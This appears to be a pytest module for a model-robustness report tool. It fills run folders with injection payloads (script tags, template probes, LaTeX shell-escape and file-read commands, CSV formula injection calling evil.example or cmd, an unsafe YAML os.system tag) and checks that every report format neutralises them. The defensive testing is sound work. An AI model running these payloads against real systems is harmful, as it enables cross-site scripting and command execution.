"""Run folders in which every text that can come from outside tries to act, in every format.

What single modules do with such texts is held beside them: test_model_card.py draws YAML at
random, test_sarif.py and test_junit.py theirs, test_explorer.py the JSON of the page. Here whole
folders are spoilt and whole reports read: by html.parser and a browser, a Markdown renderer,
pdflatex, csv, YAML and XML parsers.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import json
import re
import shutil
import subprocess
import tomllib
import unicodedata
from collections.abc import Callable, Iterator, Mapping
from html.parser import HTMLParser
from itertools import cycle
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
import tomli_w

import robustcode
from robustcode.reports import report
from robustcode.reports.formats.web import TEMPLATES
from robustcode.reports.gating.junit import junit
from robustcode.reports.gating.model_card import model_card
from robustcode.reports.gating.sarif import sarif
from robustcode.store import load_run

# What the fixtures of the module make is made once.
pytestmark = pytest.mark.xdist_group("hostile")

PDFLATEX = shutil.which("pdflatex")
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser"))), None)
CANARY = "robustcodecanary"
# Each begins a text that is then followed by the next ones.
PAYLOADS = (
    "<script>window.x=1;alert(1)</script>",
    '"></style></title></pre></textarea><script>window.x=2</script>',
    "]]><!--\u2028--><img src=x onerror=window.x=3;alert(3)>",
    "javascript:window.x=4",
    '" onmouseover="window.x=5" autofocus onfocus=\'window.x=5\' style="x"',
    "{{ 7 * 191 }} << 7 * 191 >> <% raw %> ${7*191}",
    rf"\input{{{CANARY}}} \write18{{touch {CANARY}}} \openin5={CANARY} ^^5cinput{{{CANARY}}}",
    r"\end{verbatim}\end{tabular}\end{document} $x_{1}^2$ % & # _ ~ ^ \\ {{{ }",
    '=HYPERLINK("http://evil.example/"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\u200b\ufeff=1+1",
    "\uff1d1+1",
    '","=1+1',
    "--- !!python/object/apply:os.system ['true']\n---\n: - {a: b} & *x",
    "[text](javascript:window.x=6) ![i](http://evil.example/i.png) <http://evil.example/>",
    "http://evil.example/ www.evil.example `code` **b** | cell | # h\n\n# heading\n\n- item",
    "\x00\x01\x07\x1b[31m\x1f\x7f\u0085",
    "\u202eevil\u202c \u2066x\u2069 \u200f\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "\U0001f469\u200d\U0001f52c \U0001f1e9\U0001f1ea e\u0301 \u65e5\u672c\u8a9e \ufffe",
    "[u] [1em]",
    "*",
    "\ud800 lone \udfff",
)
# Of 100,000 letters each: in one word, and in words of marks that other formats must spell out.
LONG = ("a" * 100_000, "^W\u65e5 " * 25_000)
# TOML holds no lone surrogates and no control characters.
IN_TOML = tuple(
    text for text in PAYLOADS if not any(unicodedata.category(c) in ("Cs", "Cc") for c in text)
)


class Spoiler:
    """Puts the payloads, one after another, before texts; the same before the same text."""

    def __init__(self, payloads: tuple[str, ...]) -> None:
        self.next = cycle(payloads)
        self.known: dict[str, str] = {}

    def text(self, value: str) -> str:
        if value not in self.known:
            self.known[value] = f"{next(self.next)} {value}"
        return self.known[value]

    def all(self, value: Any, keys: bool = True) -> Any:
        """Every text of a value, keys of tables among them."""
        if isinstance(value, str):
            return self.text(value)
        if isinstance(value, list):
            return [self.all(item, keys) for item in value]
        if isinstance(value, dict):
            return {
                self.text(key) if keys else key: self.all(item, keys) for key, item in value.items()
            }
        return value

    def within(self, value: dict[str, Any], *free: str) -> dict[str, Any]:
        """The texts of a table whose own keys are the format's; of ``free`` also the inner keys."""
        return {key: self.all(item, keys=key in free) for key, item in value.items()}


def edited(file: Path, change: Callable[[Any], Any]) -> None:
    file.write_text(json.dumps(change(json.loads(file.read_text()))))


def spoilt(run: Path, labels: bool = True) -> Path:
    """A finished run with a payload before every text that a person, or a folder, may give it."""
    say, title = Spoiler(PAYLOADS), Spoiler(IN_TOML)
    spec = tomllib.loads((run / "spec.toml").read_text())
    kept = ("schema", "command", "threat", "device", "method", "corruptions")
    spec = {k: v if k in kept else title.all(v, keys=k == "defense") for k, v in spec.items()}
    spec["defense"] = {"name": title.text("d"), title.text("key"): title.text("value")}
    if labels:
        spec["title"] = f"=1+1 {' '.join(IN_TOML)}"
    (run / "spec.toml").write_text(tomli_w.dumps(spec))
    names: dict[str, str] = {}
    for file in sorted(run.glob("records/*.jsonl")):
        records = [json.loads(line) for line in file.read_text().splitlines()]
        for record in records:
            for key in ("attack", "carried"):
                if record[key] is not None:
                    record[key] = names.setdefault(record[key], say.text(record[key]))
        file.write_text("".join(json.dumps(record) + "\n" for record in records))

    def summary(said: dict[str, Any]) -> dict[str, Any]:
        for attack in said["attacks"]:
            attack["name"] = names.get(attack["name"], attack["name"])
            attack["settings"] = say.all({**attack["settings"], "text": "text"})
        for key in ("model", "data", "suite", "checkpoint", "next", "adversary", "defense"):
            said[key] = say.text(f"{key}")
        said["checks"] = [say.within(check) for check in said["checks"]]
        said["checks"] += [{**check, "status": "passed"} for check in said["checks"][:20]]
        said["checks"][0] |= {"said": LONG[0], "group": LONG[1]}
        said["repairs"] = [say.within(repair) for repair in said.get("repairs") or []]
        if said.get("certified"):
            for key in ("method", "subject"):
                said["certified"][key] = say.text(said["certified"][key])
        return said

    def manifest(said: dict[str, Any]) -> dict[str, Any]:
        for key in ("versions", "git", "data_sha256"):
            said[key] = say.all(said[key] | {"text": "text"})
        said["checkpoint_sha256"] = say.text("sha")
        said["class_names"] = [*LONG, *(say.text(f"class {number}") for number in range(2, 10))]
        for shard in said["shards"]["files"].values():
            for name in shard["sha256"]:
                shard["sha256"][name] = hashlib.sha256((run / name).read_bytes()).hexdigest()
            if names:
                seconds = shard["cost"]["attack_seconds"]
                shard["cost"]["attack_seconds"] = {names[k]: v for k, v in seconds.items()}
        return said

    finding = {
        **{"code": "code", "severity": "warning", "what": "what", "remedy": "remedy"},
        "figures": {"key": "value", "number": 0.5},
        "samples": [1, "sample"],
    }
    findings = [say.within(finding, "figures")]
    findings += [{key: text for key in ("code", "severity", "what", "remedy")} for text in PAYLOADS]
    findings += [{**finding, "what": text, "figures": {text: text}} for text in LONG]
    edited(run / "summary.json", summary)
    edited(run / "manifest.json", manifest)
    (run / "findings.json").write_text(json.dumps(findings))
    return run


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    folder = tmp_path_factory.mktemp("hostile")
    usual: dict[str, Any] = {"model": "digits_cnn", "data": "digits", "samples": 8}
    usual |= {"progress": False}
    attacks = ["noise:tries=2", "fgsm"]
    robustcode.attack(**usual, threat="linf:0.06", attacks=attacks, out=folder / "<b>attacked")
    shutil.copytree(folder / "<b>attacked", folder / "=1+1,$x$")
    robustcode.certify(**usual, threat="linf:0.06", method="ibp", out=folder / "]]>proved")
    names = ("<b>attacked", "=1+1,$x$", "]]>proved")
    return [spoilt(folder / name, labels=name != "=1+1,$x$") for name in names]


@pytest.fixture(scope="module")
def files(runs: list[Path], tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return report(runs, tmp_path_factory.mktemp("report"))


class Page(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.links: set[str] = set()
        self.styles: list[str] = []
        self.scripts: list[tuple[str | None, str]] = []
        self.other: list[str] = []
        self.inside = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        linked = ("src", "href", "srcset", "action", "data", "poster", "xlink:href")
        self.links |= {value or "" for name, value in attrs if name in linked}
        self.styles += [value or "" for name, value in attrs if name == "style"]
        self.inside = tag
        if tag == "script":
            self.scripts.append((dict(attrs).get("type"), ""))

    def handle_endtag(self, tag: str) -> None:
        self.inside = ""

    def handle_data(self, data: str) -> None:
        if self.inside == "script":
            kind, text = self.scripts[-1]
            self.scripts[-1] = kind, text + data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)


# What templates are made of.
ELEMENTS = """
html head meta title style body a main header section nav div p span code pre h1 h2 h3 h4 ul ol li
dl dt dd table caption thead tbody tr th td figure figcaption img details summary script noscript
wbr form label select input button dialog
"""
ATTRIBUTES = """
id class lang charset name content http-equiv href src width height alt role scope tabindex hidden
open type for autocomplete inputmode size aria-label aria-labelledby aria-hidden data-step
data-close data-order loading decoding title
"""


def test_a_page_holds_no_element_attribute_or_script_from_outside(files: dict[str, Path]) -> None:
    text = files["html"].read_text()
    page = Page(text)
    assert page.elements - set(ELEMENTS.split()) == set()
    assert {name for _, name in page.attributes} - set(ATTRIBUTES.split()) == set()
    assert all(link.startswith(("data:image/", "#")) for link in page.links)
    assert page.other == []
    ours = {path.read_text() for path in TEMPLATES.glob("*.js")}
    assert {script for kind, script in page.scripts if kind != "application/json"} <= ours
    for script in (script for kind, script in page.scripts if kind == "application/json"):
        assert not set("<>&\u2028\u2029") & set(script)
        assert isinstance(json.loads(script), dict)
    # No mark that turns the direction of reading or is a control stands in it.
    marks = {unicodedata.category(mark) for mark in set(text) - set("\n\t")}
    assert not marks & {"Cc", "Cf", "Cs", "Co"}
    # And a template within a text was not filled in.
    assert "1337" not in re.sub(r"[0-9a-f]{16,}|base64,\S+", "", text)
    # It is all there to be read.
    for payload in ("window.x=1", "onerror=window.x=3", r"\input{", "=HYPERLINK", "!!python"):
        assert payload.replace("&", "&amp;") in text


@pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium on the path")
@pytest.mark.xdist_group("browser")
def test_nothing_fires_in_a_browser(files: dict[str, Path]) -> None:
    playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    said: list[str] = []
    with (
        playwright.sync_playwright() as play,
        play.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"]) as browser,
    ):
        page = browser.new_page()

        def heard(dialog: Any) -> None:
            said.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", heard)
        page.on("console", lambda message: said.append(message.text))
        page.on("pageerror", lambda error: said.append(str(error)))
        page.on("popup", lambda popup: said.append(popup.url))
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.goto(files["html"].as_uri())
        # Open all that can be opened, a sample's record among it, and touch what can be touched.
        page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true; })")
        rows = page.locator("#explorer-scroll tbody tr button, #explorer-scroll tbody tr a")
        if rows.count():
            rows.first.click()
        page.mouse.move(200, 200)
        assert page.evaluate("window.x") is None
        assert said == []
        outside = [url for url in asked if not url.startswith(("data:", files["html"].as_uri()))]
        assert outside == []


def test_figures_hold_no_script_link_or_foreign_element(files: dict[str, Path]) -> None:
    drawings = [path for path in files.values() if path.suffix == ".svg"]
    assert drawings
    for path in drawings:
        for element in ET.parse(path).iter():
            tag = str(element.tag).rpartition("}")[2]
            assert tag not in ("script", "a", "foreignObject", "iframe", "animate", "set")
            for name, value in element.attrib.items():
                assert not name.startswith("on")
                assert "href" not in name or value.startswith(("#", "data:image/png;base64,"))
    for path in files.values():
        if path.suffix == ".pdf":
            content = path.read_bytes()
            assert not re.search(rb"/(JavaScript|JS|URI|Launch|OpenAction|AA)\b", content)


def test_markdown_renders_without_a_link_an_image_or_html_from_outside(
    files: dict[str, Path],
) -> None:
    renderer = pytest.importorskip("markdown_it", reason="markdown-it-py is not installed")
    drawn = {path.name for path in files.values() if path.suffix in (".svg", ".png")}
    text = files["md"].read_text()
    parser = renderer.MarkdownIt("commonmark").enable(["table", "strikethrough"])
    headings = []
    tokens = parser.parse(text)
    for place, block in enumerate(tokens):
        if block.type == "heading_open":
            headings.append(tokens[place + 1].content)
        if block.type == "html_block":
            assert re.fullmatch(r"<pre>\n[^<]*</pre>\n?", block.content), block.content[:300]
        for token in block.children or ():
            assert token.type not in ("html_inline", "link_open")
            assert token.type != "image" or token.attrs["src"] in drawn
    # Headings are ours, each on its own line of the file.
    bare = re.sub(r"<pre>.*?</pre>", "", text, flags=re.DOTALL)
    assert len(headings) == len(re.findall(r"^#{1,3} ", bare, flags=re.MULTILINE))
    # Nor do those link it that take bare addresses for links.
    assert not re.search(r"https?://|(?<!\w)www\.", bare)


@pytest.mark.skipif(PDFLATEX is None, reason="there is no pdflatex on the path")
def test_latex_compiles_and_reads_and_runs_nothing(files: dict[str, Path], tmp_path: Path) -> None:
    assert PDFLATEX
    for path in files.values():
        if path.suffix in (".tex", ".pdf"):
            shutil.copy(path, tmp_path / path.name)
    (tmp_path / f"{CANARY}.tex").write_text(rf"\typeout{{{CANARY} was read}}")
    call = [PDFLATEX, "-no-shell-escape", "-interaction=nonstopmode", "-halt-on-error", "report"]
    done = subprocess.run(call, cwd=tmp_path, capture_output=True, check=False)
    assert done.returncode == 0, done.stdout[-3000:]
    log = (tmp_path / "report.log").read_text(errors="replace")
    assert "was read" not in log
    assert f"{CANARY}.tex" not in log
    assert "runsystem" not in log
    opened = set(re.findall(r"\((\./[^\s()]+)", log))
    assert {name.partition(".")[0] for name in opened if not name.startswith("./report.")} <= {""}


def test_no_cell_of_csv_starts_a_formula(files: dict[str, Path]) -> None:
    with files["csv"].open(newline="", encoding="utf-8") as file:
        header, *rows = csv.reader(file)
    csv.field_size_limit(10**7)
    texts = {"run", "kind", "name", "settings", "status", "said"}
    found = 0
    for row in rows:
        assert len(row) == len(header)
        for name, value in zip(header, row, strict=True):
            assert "\n" not in value
            assert "\r" not in value
            assert "\t" not in value
            if name in texts:
                # Spaces and quotes are what spreadsheets take away.
                bare = value.strip(' \u00a0"')
                assert not bare.startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20"))
                found += bare.startswith("'")
            elif value:
                float(value)
    assert found > 10


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for key, item in value.items():
            yield from (*strings(key), *strings(item))
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)
    else:
        # Nothing was made of a text but a text.
        assert value is None or type(value) in (bool, int, float)


def test_json_and_bibtex_hold_texts_as_texts(files: dict[str, Path]) -> None:
    raw = files["json"].read_text(encoding="ascii")
    assert "\x00" not in raw
    content = json.loads(raw)
    assert any("<script>" in text for text in strings(content))
    bib = next(path for path in files.values() if path.suffix == ".bib").read_text()
    assert not any(text in bib for text in ("window.x", CANARY, "=1+1", "evil"))


@pytest.mark.parametrize("place", range(3))
def test_builds_cards_and_notebooks_hold_texts_as_texts(place: int, runs: list[Path]) -> None:
    yaml = pytest.importorskip("yaml", reason="PyYAML is not installed")
    run = load_run(runs[place])
    card = model_card(run)
    _, head, body = card.split("---\n", 2)
    assert all(strings(yaml.safe_load(head)))
    assert "<script" not in re.sub(r"```+toml\n.*?\n```+\n", "", body, flags=re.S)
    tree = ET.fromstring(junit(run))
    assert {element.tag for element in tree.iter()} <= {
        *("testsuites", "testsuite", "properties", "property", "testcase", "failure", "skipped"),
        "system-out",
    }
    log = json.loads(sarif(run))
    assert log["version"] == "2.1.0"
    assert all(strings(log))
    shown = Page(run._repr_html_())
    assert shown.elements <= {
        *("div", "p", "table", "caption", "thead", "tbody", "tr", "th", "td", "ul", "li"),
        *("span", "strong", "b", "br", "code", "em"),
    }
    assert {name for _, name in shown.attributes} <= {"style", "class", "scope"}
    assert not any("window" in style or "url" in style for style in shown.styles)
    assert "\n" not in repr(run)


def test_the_scripts_that_may_run_are_named_by_hash(files: dict[str, Path]) -> None:
    text = files["html"].read_text()
    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="(.*?)"', text)
    ours = [path.read_bytes() for path in TEMPLATES.glob("*.js")]
    hashes = {base64.b64encode(hashlib.sha256(script).digest()).decode() for script in ours}
    assert set(re.findall(r"'sha256-(.*?)'", policy)) <= hashes
    assert policy.startswith("default-src 'none';")
    assert "unsafe-eval" not in policy
    assert "script-src 'unsafe-inline'" not in policy
